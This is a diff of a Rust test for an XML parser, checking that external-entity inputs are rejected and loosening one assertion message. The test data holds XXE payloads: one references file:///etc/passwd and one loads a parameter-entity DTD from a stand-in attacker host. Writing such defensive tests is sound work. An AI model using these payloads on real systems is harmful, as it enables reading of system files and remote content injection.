@@ -56,7 +56,7 @@ fn external_entity() {
     // An external DTD is never read, so its entities are undeclared here.
     let doc = br#"<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo>&xxe;</foo>"#;
     let (why, offset) = rejected("cxml", doc);
-    assert!(why.contains("undeclared entity &xxe;"), "{why}");
+    assert!(why.contains("undeclared entity"), "{why}");
     assert_eq!(offset, doc.len() - "&xxe;</foo>".len());
     // Parameter entities too.
     let doc = br#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><foo/>"#;
